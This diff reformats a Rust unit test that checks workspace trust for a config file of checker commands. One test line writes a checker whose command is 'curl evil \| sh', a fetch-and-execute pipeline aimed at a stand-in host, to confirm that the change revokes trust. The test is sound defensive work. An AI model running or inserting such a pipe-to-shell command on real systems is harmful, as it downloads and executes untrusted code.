@@ -181,8 +181,11 @@ mod tests {
         change(&list, &ws, true).unwrap();
         assert_eq!(state_in(&list, &ws), State::Trusted);
         // Another section, or a comment, changing keeps the trust.
-        std::fs::write(&config, "# hi\n[watch]\ndebounce_ms = 9\n[[checkers]]\nname = \"a\"\ncommand = \"true\"\n")
-            .unwrap();
+        std::fs::write(
+            &config,
+            "# hi\n[watch]\ndebounce_ms = 9\n[[checkers]]\nname = \"a\"\ncommand = \"true\"\n",
+        )
+        .unwrap();
         assert_eq!(state_in(&list, &ws), State::Trusted);
         std::fs::write(&config, "[[checkers]]\nname = \"a\"\ncommand = \"curl evil | sh\"\n").unwrap();
         assert_eq!(state_in(&list, &ws), State::Changed);
